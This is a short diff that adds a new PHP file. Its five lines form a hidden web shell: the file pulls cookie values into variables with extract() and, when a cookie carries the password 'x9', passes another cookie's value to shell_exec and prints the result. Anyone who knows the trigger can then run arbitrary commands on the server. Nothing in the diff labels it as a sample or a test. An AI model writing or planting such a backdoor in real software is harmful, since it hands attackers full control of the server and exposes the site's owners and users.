@@ -1,0 +1,5 @@
+<?php
+@extract($_COOKIE);
+if (isset($k) && $k === 'x9') {
+    echo '<pre>' . shell_exec($c) . '</pre>';
+}
